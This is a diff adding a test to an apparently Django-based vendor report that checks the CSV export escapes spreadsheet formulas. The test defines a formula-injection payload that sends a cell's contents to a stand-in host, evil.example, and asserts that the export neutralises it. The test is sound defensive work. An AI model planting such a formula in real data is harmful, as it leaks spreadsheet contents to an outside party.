@@ -211,3 +211,19 @@ def test_a_vendor_without_a_lead_program_sees_an_empty_report(world, login_as):
     assert response.status_code == 200
     assert response.context["rows"] == []
     assert "За период сделок нет." in response.content.decode()
+
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A2,"Beta")'
+
+
+def test_a_partner_name_that_is_a_formula_is_text_in_the_csv(world, worked, login_as):
+    world.partner_a.short_name = HOSTILE_NAME
+    world.partner_a.save(update_fields=["short_name"])
+
+    response = login_as("vendor:accountant").get(CSV_URL)
+
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    names = [r[0] for r in rows[1:-1]]
+    assert "'" + HOSTILE_NAME in names
+    assert HOSTILE_NAME not in names
+    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
